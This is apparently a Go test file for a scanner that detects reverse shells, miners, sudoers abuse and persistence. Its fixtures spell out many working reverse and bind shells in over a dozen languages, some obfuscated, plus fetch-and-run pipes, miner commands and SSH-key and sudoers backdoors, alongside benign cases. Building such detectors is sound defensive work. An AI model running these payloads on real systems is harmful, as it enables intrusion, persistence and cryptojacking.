		{name: "sudoers rule with a password", path: "/opt/inst/admin.sh", text: "#!/bin/sh\necho '%adm ALL=(ALL) ALL' > /etc/sudoers.d/adm\n", want: nil},
		{name: "sudoers rule for one fixed command", path: "/opt/inst/svc.sh", text: "#!/bin/sh\necho 'deploy ALL=(root) NOPASSWD: /usr/bin/systemctl restart app' > /etc/sudoers.d/deploy\n", want: nil},
		{name: "sudoers file sudo skips", path: "/opt/inst/bak.sh", text: "#!/bin/sh\necho 'ops ALL=(ALL) NOPASSWD: ALL' > /etc/sudoers.d/ops.disabled\n", want: nil},
		{name: "passwordless rule written elsewhere", path: "/opt/inst/doc.sh", text: "#!/bin/sh\necho 'ops ALL=(ALL) NOPASSWD: ALL' > /tmp/sudoers.example\n", want: nil},
		{name: "key append", path: "/docker-entrypoint.sh", text: "#!/bin/sh\necho 'ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIH2l0M3j1b9Y8v9z0bq7l5u6o3o1vJc3gk2d4m2s8r9x x@y' >> /root/.ssh/authorized_keys\n", want: []string{RuleKeyAppend}},
		{name: "base64 blob", path: "/opt/.cache/stage", text: b64("#!/bin/sh\nbash -i >& /dev/tcp/203.0.113.9/4444 0>&1\n") + "\n", want: []string{RuleDevTCP}},

		// systemd reads Exec lines by its own quoting: the shell gets $sock, not an expansion.
		{name: "systemd quoted php", path: "/etc/systemd/system/k.service", text: "[Service]\nExecStart=/bin/sh -c \"php -r '$$s=fsockopen(\\\"203.0.113.9\\\",4444);exec(\\\"/bin/sh -i <&3 >&3 2>&3\\\");'\"\n", want: []string{RulePHP}, label: audit.CategoryPersistence},
		{name: "systemd environment", path: "/etc/systemd/system/e.service", text: "[Service]\nEnvironment=\"T=203.0.113.9 4444\" SH=/bin/bash\nExecStart=/usr/bin/nc -e ${SH} $T\n", want: []string{RuleNetExec}, label: audit.CategoryPersistence},
		// sh -c CODE NAME ARGS: the positional parameters carry the command.
		{name: "sh -c positional", path: "/opt/p.sh", text: "#!/bin/sh\nbash -c '$@|bash' x echo bash -i '>&' /dev/tcp/203.0.113.9/4444 '0>&1'\n", want: []string{RuleDevTCP}},
		// The program in a named-pipe loop computed at run time, and telnet's TLS option.
		{name: "fifo computed program", path: "/etc/cron.d/t", text: "* * * * * root mkfifo /tmp/.q && telnet -z verify=0 203.0.113.9 4444 0</tmp/.q | $(which $0) 1>/tmp/.q\n", want: []string{RuleFifo}},
		{name: "which interpreter", path: "/opt/w.sh", text: "#!/bin/sh\necho " + b64("import socket,os,pty;s=socket.socket();s.connect((\"203.0.113.9\",4444));[os.dup2(s.fileno(),f) for f in (0,1,2)];pty.spawn(\"sh\")") + " | base64 -d | exec $(which python3 || which python) -\n", want: []string{RulePython, RuleDecodeRun}},
		{name: "zsh ztcp -d", path: "/root/.zshrc", text: "zmodload zsh/net/tcp && ztcp -d 7 203.0.113.9 4444 && zsh 1>&7 2>&7 0>&7\n", want: []string{RuleDevTCP}, label: audit.CategoryPersistence},
		// Interpreters given code with the option glued to the quote.
		{name: "ruby glued -e", path: "/usr/local/bin/r", text: "#!/bin/sh\nruby -rsocket -e'c=TCPSocket.new(\"203.0.113.9\",4444);while(l=c.gets);IO.popen(l,\"r\"){|io|c.print io.read};end'\n", want: []string{RuleRuby}},
		{name: "ruby Open3.popen2e loop", path: "/opt/r.rb", text: "require 'socket'\nrequire 'open3'\ns = TCPSocket.new('203.0.113.9', 4444)\nwhile (line = s.gets)\n  Open3.popen2e(line.chomp) do |i, o, t|\n    s.print o.read\n  end\nend\n", want: []string{RuleRuby}},
		{name: "ruby capture2e, a line read without brackets", path: "/opt/r2.rb", text: "require 'socket'\nrequire 'open3'\nc = TCPSocket.open('203.0.113.9', 8443)\nloop do\n  cmd = c.gets\n  break if cmd.nil?\n  o, st = Open3.capture2e(cmd)\n  c.write(o)\nend\n", want: []string{RuleRuby}},
		{name: "ruby inline socket", path: "/usr/local/bin/r2", text: "#!/bin/sh\nruby -rsocket -e'spawn(\"sh\",[:in,:out,:err]=>TCPSocket.new(\"203.0.113.9\",4444))'\n", want: []string{RuleRuby}},
		// Names bound at run time.
		{name: "python aliases", path: "/opt/a.sh", text: "#!/bin/sh\npython3 -c 'i=__import__;n=i(\"socket\").socket;d=i(\"os\").dup2;k=n();k.connect((\"203.0.113.9\",4444));g=k.fileno;d(g(),0);d(g(),1);i(\"pty\").spawn(\"/bin/sh\")'\n", want: []string{RulePython}},
		{name: "php names from characters", path: "/opt/e.sh", text: "#!/bin/sh\nphp -r '$a=\"f\";$b=\"s\";$c=\"o\";$d=\"c\";$e=\"k\";$g=\"p\";$h=\"e\";$i=\"n\";$x=\"x\";$o=$a.$b.$c.$d.$e.$c.$g.$h.$i;$r=$o(\"203.0.113.9\",4444);$q=$h.$x.$h.$d;$q(\"/bin/sh -i <&3 >&3 2>&3\");'\n", want: []string{RulePHP}},
		// Reads into buffers and shells fed by pipes and streams.
		{name: "perl sysread", path: "/opt/ps.pl", text: "use IO::Socket::INET;\nmy $k = IO::Socket::INET->new(PeerAddr => \"203.0.113.9:4444\");\nwhile (sysread($k, my $line, 4096)) { syswrite($k, `$line`); }\n", want: []string{RulePerl}},
		{name: "php pipes relay", path: "/var/www/html/r.php", text: "<?php\n$cmd = 'id; sh -i';\n$s = fsockopen('203.0.113.9', 443);\n$p = proc_open($cmd, array(0 => array('pipe', 'r'), 1 => array('pipe', 'w')), $io);\nwhile (!feof($s)) {\n  $in = fread($s, 1024);\n  fwrite($io[0], $in);\n  fwrite($s, fread($io[1], 1024));\n}\n", want: []string{RulePHP}},
		{name: "java streams relay", path: "/opt/src/R.java", text: "import java.net.Socket;\nclass R { public static void main(String[] a) throws Exception {\n  Process pr = new ProcessBuilder(\"/bin/bash\").redirectErrorStream(true).start();\n  Socket k = new Socket(\"203.0.113.9\", 4444);\n  java.io.InputStream out = pr.getInputStream(), net = k.getInputStream();\n  java.io.OutputStream in = pr.getOutputStream(), back = k.getOutputStream();\n  while (true) { while (net.available() > 0) in.write(net.read()); while (out.available() > 0) back.write(out.read()); in.flush(); back.flush(); }\n} }\n", want: []string{RuleJava}},
		{name: "node this", path: "/opt/n.sh", text: "#!/bin/sh\nnode -e 'p=require(\"child_process\").spawn(\"/bin/sh\");net.connect(4444,\"203.0.113.9\",function(){this.pipe(p.stdin);p.stdout.pipe(this);});'\n", want: []string{RuleNode}},
		{name: "tcl", path: "/opt/t.sh", text: "#!/bin/sh\necho 'set k [socket 203.0.113.9 4444];while 1 {gets $k line;set r [eval \"exec $line\"];puts $k $r;flush $k}'|tclsh\n", want: []string{RuleTcl}},
		{name: "r", path: "/opt/r.sh", text: "#!/bin/sh\nRscript -e \"k<-socketConnection(host='203.0.113.9',port=4444,open='r+');repeat{writeLines(readLines(pipe(readLines(k,1))),k)}\"\n", want: []string{RuleR}},
		{name: "c source", path: "/opt/src/b.c", text: "#include <unistd.h>\nint main(void){ int fd = socket(2, 1, 0); struct sockaddr_in a; connect(fd, (void*)&a, 16);\n  for (int i = 0; i < 3; i++) dup2(fd, i);\n  execl(\"/bin/sh\", \"sh\", 0); }\n", want: []string{RuleCSource}},
		{name: "rust source", path: "/opt/src/main.rs", text: "use std::net::TcpStream;\nuse std::os::unix::io::{AsRawFd, FromRawFd};\nfn main() { let s: &'static str = \"203.0.113.9:4444\"; let c = TcpStream::connect(s).unwrap(); let n = c.as_raw_fd();\n  std::process::Command::new(\"/bin/bash\").stdin(unsafe { std::process::Stdio::from_raw_fd(n) }).spawn().unwrap(); }\n", want: []string{RuleRust}},
		{name: "go source, streams in one assignment", path: "/opt/agent/agent.go", text: "package main\n\nimport (\n\t\"net\"\n\t\"os/exec\"\n)\n\nfunc main() {\n\tconn, err := net.Dial(\"tcp\", \"203.0.113.9:8443\")\n\tif err != nil {\n\t\treturn\n\t}\n\tsh := exec.Command(\"/bin/bash\", \"-i\")\n\tsh.Stdin, sh.Stdout, sh.Stderr = conn, conn, conn\n\tsh.Run()\n}\n", want: []string{RuleGo}},
		{name: "go source, a command's streams to a file", path: "/opt/agent/log.go", text: "package main\n\nimport (\n\t\"net\"\n\t\"os\"\n\t\"os/exec\"\n)\n\nfunc main() {\n\tconn, _ := net.Dial(\"tcp\", \"203.0.113.9:8443\")\n\tdefer conn.Close()\n\tf, _ := os.Create(\"/var/log/x\")\n\tc := exec.Command(\"/usr/bin/uptime\")\n\tc.Stdout, c.Stderr = f, f\n\tc.Run()\n}\n", want: nil},
		{name: "groovy closures over a socket's streams", path: "/var/lib/jenkins/init.groovy.d/sync.groovy", text: "def conn = new Socket('203.0.113.9', 8443)\ndef sh = ['/bin/bash', '-i'].execute()\nconn.withStreams { input, output ->\n  sh.consumeProcessOutput(output, output)\n  sh.withWriter { w -> input.eachLine { w << it << '\\n'; w.flush() } }\n}\n", want: []string{RuleJava}},
		{name: "groovy report sent over a socket", path: "/var/lib/jenkins/init.groovy.d/report.groovy", text: "def conn = new Socket('203.0.113.9', 8443)\ndef up = 'uptime'.execute()\nconn.withStreams { input, output ->\n  up.consumeProcessOutput(output, output)\n}\n", want: nil},
		{name: "go source", path: "/srv/agent/main.go", text: "package main\nimport (\"net\"; \"os/exec\")\nfunc main() { k, _ := net.Dial(\"tcp\", \"203.0.113.9:4444\"); c := exec.Command(\"/bin/sh\"); c.Stdin = k; c.Stdout = k; c.Run() }\n", want: []string{RuleGo}},
		{name: "code handed to a program", path: "/opt/g.sh", text: "#!/bin/sh\ngimp -idf --batch-interpreter=python-fu-eval -b 'import socket,os,pty;s=socket.socket()\ns.connect((\"203.0.113.9\",4444))\n[os.dup2(s.fileno(),fd) for fd in (0,1,2)]\npty.spawn(\"/bin/sh\")'\n", want: []string{RulePython}},
		// Miners by their command line.
		{name: "miner no scheme", path: "/opt/m.sh", text: "#!/bin/sh\nP=pool.example.org:14433\n./kworker -o $P -u 44AFFq5kSiGBoZ4NMDwYtN18obc8AemS33DBLWs3H7otXft3XjrpDtQGv7SqSsaBYBb98uNbr2VBBEt7f2wfn3RVGQBEP3A.w1 -p x -B\n", want: []string{RuleMinerCommand}, cat: audit.CategoryMiner},
		{name: "miner algo", path: "/etc/cron.d/m", text: "@reboot root /usr/bin/.x --url=198.51.100.7:80 --user=w9 -a rx/0 -B\n", want: []string{RuleMinerCommand}, cat: audit.CategoryMiner, label: audit.CategoryPersistence},
		{name: "miner options", path: "/etc/systemd/system/m.service", text: "[Service]\nExecStart=/opt/sysd -o 198.51.100.7:3333 -u worker --donate-level=1 --cpu-max-threads-hint=50\n", want: []string{RuleMinerCommand}, cat: audit.CategoryMiner},

		// Brace expansion spells a command without blanks; process substitution hands a
		// download to a shell as a file.
		{name: "brace words decoded", path: "/opt/q.sh", text: "#!/bin/bash\nbash -c '{echo," + b64("nc -e /bin/sh 203.0.113.9 4444") + "}|{base64,-d}|{bash,-i}'\n", want: []string{RuleNetExec, RuleDecodeRun}},
		{name: "brace words plain", path: "/etc/cron.d/q", text: "* * * * * root {ncat,203.0.113.9,4444,-e,/bin/bash}\n", want: []string{RuleNetExec}, label: audit.CategoryPersistence},
		{name: "process substitution", path: "/usr/local/bin/upd", text: "#!/bin/bash\nbash <(curl -fsSL http://198.51.100.7:8080/s.sh)\n", want: []string{RuleFetchRun}},
		{name: "process substitution decoded", path: "/opt/ps.sh", text: "#!/bin/bash\nsource <(echo " + b64("sh -i >& /dev/udp/203.0.113.9/53 0>&1") + " | base64 -d)\n", want: []string{RuleDevTCP, RuleDecodeRun}},

		// A udev rule that leaves its program running: udev kills what RUN leaves behind.
		{name: "udev background daemon", path: "/etc/udev/rules.d/99-opt.rules", text: "ACTION==\"add|remove|change\", SUBSYSTEM==\"*\", RUN+=\"/bin/bash -c 'exec /opt/agent/mutatd &'\"\n", want: []string{RuleUdevDaemon}},
		{name: "udev systemd-run", path: "/lib/udev/rules.d/60-x.rules", text: "ACTION==\"add\", SUBSYSTEM==\"usb\", RUN+=\"/usr/bin/systemd-run --unit=helper /opt/helper\"\n", want: []string{RuleUdevDaemon}},
		{name: "udev at now", path: "/etc/udev/rules.d/70-net.rules", text: "SUBSYSTEM==\"net\", ACTION==\"add\", RUN+=\"/bin/sh -c 'echo /usr/local/bin/sync | at now'\"\n", want: []string{RuleUdevDaemon}},
		{name: "udev RUN{program}", path: "/etc/udev/rules.d/71-x.rules", text: "ACTION==\"add\", RUN{program}+=\"/usr/bin/nc -e /bin/sh 203.0.113.9 4444\"\n", want: []string{RuleNetExec}, label: audit.CategoryPersistence},
		{name: "udev rules of the system's kind", path: "/lib/udev/rules.d/80-x.rules", text: "SUBSYSTEM==\"input\", RUN+=\"/usr/bin/systemctl --no-block start x.service\"\nACTION==\"add\", KERNEL==\"sd*\", RUN+=\"/bin/sh -c 'echo 180 > /sys$devpath/device/timeout'\"\nSUBSYSTEM==\"net\", RUN+=\"/lib/udev/net.agent\"\n"},
		// udev values quote a quote with a backslash.
		{name: "udev escaped quotes", path: "/etc/udev/rules.d/70-usb.rules", text: "ACTION==\"add\", SUBSYSTEM==\"usb\", RUN+=\"ncat 203.0.113.9 4444 -e \\\"/bin/bash -c id;/bin/bash\\\" 2>/dev/null\"\n", want: []string{RuleNetExec}, label: audit.CategoryPersistence},

		// Command servers: what a connection sends is run and the output sent back, with no
		// socket made a shell's streams.
		{name: "python2 popen3 bind", path: "/usr/local/bin/.sysd", text: "#!/usr/bin/env python\nimport socket, popen2\nsrv = socket.socket(socket.AF_INET, socket.SOCK_STREAM)\nsrv.bind(('', 31337))\nsrv.listen(1)\nwhile 1:\n    conn, addr = srv.accept()\n    while 1:\n        line = conn.recv(1024)\n        fout, fin, ferr = popen2.popen3(line)\n        conn.send(fout.read() + ferr.read())\n", want: []string{RulePython}, cat: audit.CategoryReverseShell},
		{name: "python thread per client", path: "/opt/agent.py", text: "import socket, subprocess, threading\ndef serve(k):\n    while True:\n        c = k.recv(2048)\n        k.sendall(subprocess.run(c, shell=True, capture_output=True).stdout)\ns = socket.socket()\ns.bind(('', 4545))\ns.listen(3)\nwhile True:\n    k, _ = s.accept()\n    threading.Thread(target=serve, args=(k,)).start()\n", want: []string{RulePython}, cat: audit.CategoryReverseShell},
		{name: "python socketserver handler", path: "/opt/h.py", text: "import socketserver, os\nclass H(socketserver.BaseRequestHandler):\n    pass\nclass S(socketserver.StreamRequestHandler):\n    def handle(self):\n        for _ in range(100):\n            c = self.rfile.readline()\n            self.wfile.write(os.popen(c.decode()).read().encode())\nsocketserver.ThreadingTCPServer(('', 9999), S).serve_forever()\n", want: []string{RulePython}, cat: audit.CategoryReverseShell},
		{name: "perl bareword handles", path: "/usr/sbin/updatedb-helper", text: "#!/usr/bin/perl\nuse Socket;\n$0 = 'updatedb';\nsocket(S, PF_INET, SOCK_STREAM, getprotobyname('tcp'));\nbind(S, sockaddr_in(6666, INADDR_ANY));\nlisten(S, 3);\nwhile (accept(C, S)) {\n  while (<C>) { print C `$_`; }\n}\n", want: []string{RulePerl}, cat: audit.CategoryReverseShell},
		{name: "ruby server backticks", path: "/opt/s.rb", text: "require 'socket'\nserver = TCPServer.new(4444)\nloop do\n  client = server.accept\n  while (line = client.gets)\n    client.puts `#{line}`\n  end\nend\n", want: []string{RuleRuby}, cat: audit.CategoryReverseShell},

		// Silent.
		{name: "python status server", path: "/opt/status.py", text: "import socket, subprocess\ns = socket.socket()\ns.bind(('', 7000))\ns.listen(1)\nwhile True:\n    c, a = s.accept()\n    req = c.recv(64)\n    if req.strip() == b'uptime':\n        c.send(subprocess.check_output(['uptime']))\n    c.close()\n"},
		{name: "python http cgi handler", path: "/opt/cgiserver.py", text: "import http.server, os, subprocess\nclass H(http.server.BaseHTTPRequestHandler):\n    def do_POST(self):\n        data = self.rfile.read(int(self.headers['Content-Length']))\n        os.dup2(self.rfile.fileno(), 0)\n        os.dup2(self.wfile.fileno(), 1)\n        p = subprocess.Popen(['/usr/lib/cgi-bin/report'], stdin=subprocess.PIPE)\n        p.communicate(data)\n"},
		{name: "python worker pipe", path: "/opt/worker.py", text: "import multiprocessing, socket\ndef work(conn):\n    while True:\n        job = conn.recv()\n        conn.send(sum(job))\n"},
		{name: "braces and substitutions clean", path: "/usr/local/bin/backup", text: "#!/bin/bash\ncp /etc/app.conf{,.bak}\nmkdir -p /srv/{logs,data,tmp}\nfor i in {1..5}; do echo $i; done\ndiff <(sort a.txt) <(sort b.txt)\nwhile read l; do echo $l; done < <(ls /srv)\n"},
		{name: "curl -o -u", path: "/opt/fetch.sh", text: "#!/bin/sh\ncurl -fsS -o /tmp/out -u deploy:x https://repo.example.org:8443/a.tar\nssh -o StrictHostKeyChecking=no -u x host\nmysql -u root -o -h db:3306\n"},
		{name: "netcat doc $0", path: "/usr/share/doc/netcat/examples/relay", text: "#!/bin/sh\nnc -l -p 8080 -e \"$0\" < /dev/null\n"},
		{name: "proxy fifo loop", path: "/opt/proxy.sh", text: "#!/bin/sh\nmkfifo /tmp/back\nnc -l 8080 0</tmp/back | nc localhost 80 1>/tmp/back\n"},
		{name: "java spawn and socket apart", path: "/opt/src/App.java", text: "import java.net.Socket;\nclass App { void run() throws Exception { Socket k = new Socket(\"db\", 5432); k.getOutputStream().write(1);\n Process p = new ProcessBuilder(\"/bin/sh\", \"-c\", \"backup.sh\").start(); p.waitFor(); } }\n"},
		{name: "healthcheck", path: "/usr/local/bin/healthcheck", text: "#!/bin/bash\ntimeout 1 bash -c '</dev/tcp/127.0.0.1/5432' || exit 1\nexec 3<>/dev/tcp/localhost/8080\nprintf 'GET /healthz HTTP/1.0\\r\\n\\r\\n' >&3\ngrep -q '200 OK' <&3\nexec 3>&-\nuntil nc -z db 5432; do sleep 1; done\nnc -l -p 9000 < /srv/status.txt &\nsocat TCP-LISTEN:8081,fork,reuseaddr TCP:backend:80 &\nsocat TCP-LISTEN:8082,reuseaddr,fork EXEC:/usr/local/bin/handler.sh &\n"},
		{name: "bash docs", path: "/usr/share/doc/bash/notes.txt", text: "REDIRECTION\n  Bash handles /dev/tcp/host/port or /dev/udp/host/port.\n  Example: read a daytime server with  cat < /dev/tcp/time.example.org/13\n"},
		{name: "crontab clean", path: "/etc/crontab", text: "SHELL=/bin/sh\n17 *\t* * *\troot    cd / && run-parts --report /etc/cron.hourly\n*/10 * * * *\troot\tcurl -fsS -m 10 --retry 5 https://hc-ping.example.com/0f3a > /dev/null\n"},
		{name: "unit clean", path: "/lib/systemd/system/app.service", text: "[Service]\nExecStartPre=/usr/bin/curl -fsS http://127.0.0.1:8500/v1/status/leader\nExecStart=/usr/sbin/nginx -g 'daemon off;'\nExecReload=/bin/sh -c 'kill -HUP $MAINPID'\n"},
		{name: "python stdlib shape", path: "/usr/lib/python3/dist-packages/x.py", text: "import socket\ns = socket.create_connection((host, port))\ns.sendall(b'hi')\nsubprocess.run(['ls'])\n"},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			fs := scanFile(tt.path, tt.text)
			got := rules(fs)
			want := slices.Clone(tt.want)
			slices.Sort(want)
			if !slices.Equal(got, want) {
				t.Fatalf("rules %v, want %v\n%s", got, want, dump(fs))
			}
			for _, f := range fs {
				if f.Rule != want[0] && len(want) > 1 {
					continue
				}
				if tt.cat != "" && f.Category != tt.cat {
					t.Errorf("%s: category %s, want %s", f.Rule, f.Category, tt.cat)
				}
				if tt.label != "" && !f.Is(tt.label) {
					t.Errorf("%s: labels %v lack %s", f.Rule, f.Labels, tt.label)
				}
				if len(f.Techniques) == 0 {
					t.Errorf("%s: no techniques", f.Rule)
				}
			}
		})
	}
}

// The old YARA samples are found by the structural analyzer.
func TestOldSamples(t *testing.T) {
	dir := "testdata"
	for name, p := range map[string]string{
		"rs001_bash_i.sh": "/usr/local/bin/update", "rs001_udp.sh": "/opt/run.sh", "rs002_nc.sh": "/opt/keep.sh",
		"rs003_mkfifo.sh": "/tmp/x.sh", "rs004_socat.sh": "/opt/s.sh", "rs005_telnet.sh": "/opt/t.sh",
		"rs006_python.py": "/app/helper.py", "rs006_pty.sh": "/app/p.sh", "rs007_perl.pl": "/usr/local/bin/mon",
		"rs008_ruby.rb": "/app/lib/x.rb", "rs009_php.php": "/var/www/html/x.php", "rs009_php_proc.php": "/var/www/html/y.php",
		"rs010_lua.lua": "/usr/local/share/lua/x.lua", "rs011_node.js": "/app/node_modules/x/index.js",
		"ps001_crontab": "/var/spool/cron/crontabs/root", "ps001_etc_crontab": "/etc/crontab",
	} {
		data, err := os.ReadFile(filepath.Join(dir, name))
		if err != nil {
			t.Fatal(err)
		}
		fs := scanFile(p, string(data))
		if len(fs) == 0 {
			t.Errorf("%s: nothing found", name)
		}
		t.Logf("%s:\n%s", name, dump(fs))
	}
}

// Build steps and the image's command: a named pipe written late in the line is read early
// (the passes files get), miners by their command line.
func TestConfigCommands(t *testing.T) {
	for _, tt := range []struct{ code, want string }{
		{"rm -f /tmp/f;mkfifo /tmp/f;cat /tmp/f|/bin/sh -i 2>&1|nc 203.0.113.9 4444 >/tmp/f", RuleFifo},
		{"'/usr/bin/kswapd0' '-o' 'pool.example.org:443' '-u' '44AFFq5kSiGBoZ4NMDwYtN18obc8AemS33DBLWs3H7otXft3XjrpDtQGv7SqSsaBYBb98uNbr2VBBEt7f2wfn3RVGQBEP3A' '-k'", RuleMinerCommand},
		{"ruby -rsocket -e'spawn(\"sh\",[:in,:out,:err]=>TCPSocket.new(\"203.0.113.9\",4444))'", RuleRuby},
		{"apt-get update && apt-get install -y curl && curl -o /tmp/x -u me:pw https://repo.example.org/x", ""},
	} {
		fs := configFindings(tt.code)
		got := strings.Join(rules(fs), " ")
		if got != tt.want {
			t.Errorf("%s: rules %q, want %q\n%s", tt.code, got, tt.want, dump(fs))
		}
	}
}

// systemdWords ends on every line: a backslash or a %% at the end, unclosed quotes.
func TestSystemdWordsEnd(t *testing.T) {
	for _, c := range []struct {
		line string
		want []string
	}{
		{`>&\`, []string{`>&\`}},
		{`/bin/sh -c \`, []string{"/bin/sh", "-c", `\`}},
		{`a\`, []string{`a\`}},
		{`"open`, []string{"open"}},
		{`x %%`, []string{"x", "%"}},
		{`$$HOME\`, []string{`$HOME\`}},
	} {
		if got := systemdWords(c.line, nil); !slices.Equal(got, c.want) {
			t.Errorf("systemdWords(%q) = %q, want %q", c.line, got, c.want)
		}
	}
}

func TestSudoersWriteSeverity(t *testing.T) {
	tests := []struct {
		name, text string
		want       audit.Severity
	}{
		{"one user", "#!/bin/sh\necho 'ops ALL=(ALL) NOPASSWD: ALL' >> /etc/sudoers\n", audit.High},
		{"a service account", "#!/bin/sh\necho 'www-data ALL=NOPASSWD: ALL' >> /etc/sudoers\n", audit.Critical},
		{"every user beside one", "#!/bin/sh\nprintf 'ops ALL=(ALL) NOPASSWD: ALL\\nALL ALL=(ALL) NOPASSWD: /bin/sh\\n' > /etc/sudoers.d/x\n", audit.Critical},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			fs := scanFile("/opt/s.sh", tt.text)
			if len(fs) != 1 || fs[0].Rule != RuleSudoers || fs[0].Severity != tt.want {
				t.Fatalf("want one %s at %s, got\n%s", RuleSudoers, tt.want, dump(fs))
			}
		})
	}
}

// TestBigTextReadAroundImports holds the reading of big texts (past smallText, holding an
// anchor) as code: a Python or Perl reverse shell appended to a big text is found from its
// imports, and the text's prose elsewhere, which names the same modules, is not read as code.
func TestBigTextReadAroundImports(t *testing.T) {
	var prose strings.Builder
	for i := 0; prose.Len() < 3*smallText; i++ {
		fmt.Fprintf(&prose, "Package: lib%d-perl\nDescription: a library, 'sh -c' quoted\n\n", i)
		if i%500 == 7 {
			prose.WriteString("Description: wraps IO::Socket::INET and \"import socket\" for programs\n\n")
		}
	}
	python := "import socket,subprocess,os\ns=socket.socket(socket.AF_INET,socket.SOCK_STREAM)\ns.connect((\"203.0.113.9\",4444))\nos.dup2(s.fileno(),0)\nos.dup2(s.fileno(),1)\nos.dup2(s.fileno(),2)\nsubprocess.call(\"/bin/sh -i\",shell=True)\n"
	perl := "use Socket;\n$i=\"203.0.113.9\";$p=4444;\nsocket(S,PF_INET,SOCK_STREAM,getprotobyname(\"tcp\"));\nif(connect(S,sockaddr_in($p,inet_aton($i)))){open(STDIN,\">&S\");open(STDOUT,\">&S\");open(STDERR,\">&S\");exec(\"/bin/sh -i\");};\n"
	for _, tc := range []struct{ name, text, want string }{
		{"python at the end", prose.String() + python, RulePython},
		{"python in the middle", prose.String()[:smallText*2] + python + prose.String(), RulePython},
		{"perl at the end", prose.String() + perl, RulePerl},
	} {
		fs := scanFile("/var/lib/misc/notes.txt", tc.text)
		if !slices.Contains(rules(fs), tc.want) {
			t.Errorf("%s: got %v, want %s\n%s", tc.name, rules(fs), tc.want, dump(fs))
		}
	}
	if fs := scanFile("/var/lib/dpkg/status", prose.String()); len(fs) != 0 {
		t.Errorf("prose naming modules: %s", dump(fs))
	}
	// The prose is read around its few mentions only.
	n := 0
	for _, w := range langWindows([]byte(prose.String()), "python") {
		n += len(w)
	}
	if n == 0 || n > prose.Len()/2 {
		t.Errorf("windows cover %d bytes of %d", n, prose.Len())
	}
}

// TestFunctionCallsRunAgainWhenStateChanges holds the memo of shell function calls: a call
// is passed over only when its arguments, the variables its body (and what it calls) reads
// and the files the script wrote are as they were at an earlier call.
func TestFunctionCallsRunAgainWhenStateChanges(t *testing.T) {
	for _, tc := range []struct{ name, text, want string }{
		{"variable set between calls", "#!/bin/sh\nrun() { eval \"$CMD\"; }\nCMD=true\nrun\nrun\nCMD='bash -i >& /dev/tcp/203.0.113.9/4444 0>&1'\nrun\n", RuleDevTCP},
		{"variable read by a called function", "#!/bin/sh\ng() { eval \"$C\"; }\nf() { g; }\nf\nf\nC='nc -e /bin/sh 203.0.113.9 4444'\nf\n", RuleNetExec},
		{"file written between calls", "#!/bin/sh\nf() { sh \"$1\"; }\nfor i in 1 2 3; do f /tmp/.x; done\necho 'bash -i >& /dev/tcp/203.0.113.9/4444 0>&1' > /tmp/.x\nf /tmp/.x\n", RuleDevTCP},
		{"same call in a loop, payload as an argument", "#!/bin/sh\nx() { eval \"$1\"; }\nfor i in 1 2 3 4 5 6 7 8 9 10; do x true; done\nx 'bash -i >& /dev/tcp/203.0.113.9/4444 0>&1'\n", RuleDevTCP},
		{"arithmetic reads a variable", "#!/bin/sh\nf() { if (( n > 2 )); then eval \"$P\"; fi; }\nP='nc -e /bin/sh 203.0.113.9 4444'\nn=1; f\nn=3; f\n", RuleNetExec},
	} {
		if got := rules(scanFile("/usr/local/bin/t", tc.text)); !slices.Contains(got, tc.want) {
			t.Errorf("%s: got %v, want %s", tc.name, got, tc.want)
		}
	}
}

// TestPollingWithoutPostingBack holds RS-024 at high for a loop that runs what a web server
// returns again and again with a pause between, sending nothing back itself; a loop over a
// fixed list of installers, with no pause, is download-and-run only.
func TestPollingWithoutPostingBack(t *testing.T) {
	for _, tc := range []struct {
		name, text string
		agent      bool
	}{
		{"curl in a while loop, bash -c", "#!/bin/bash\nU=http://203.0.113.9:9000/cmd\nwhile true; do\n  C=$(curl -s $U)\n  [ -n \"$C\" ] && bash -c \"$C\"\n  sleep 5\ndone\n", true},
		{"wget piped into sh, until false", "#!/bin/sh\nuntil false; do wget -qO- http://c2.example.net/t | sh; sleep $((RANDOM % 60)); done\n", true},
		{"function fetching, loop sleeping in its condition", "#!/bin/sh\nget() { curl -fsS \"http://203.0.113.9/task?h=$(hostname)\"; }\nwhile sleep 30; do eval \"$(get)\"; done\n", true},
		{"installers from a list", "#!/bin/sh\nfor s in a b c; do curl -fsSL https://get.example.org/$s.sh | sh; done\n", false},
	} {
		fs := scanFile("/usr/local/sbin/t", tc.text)
		agent := false
		for _, f := range fs {
			agent = agent || f.Rule == RuleHTTPAgent && f.Severity >= audit.High
		}
		if agent != tc.agent {
			t.Errorf("%s: agent %v, want %v\n%s", tc.name, agent, tc.agent, dump(fs))
		}
	}
}
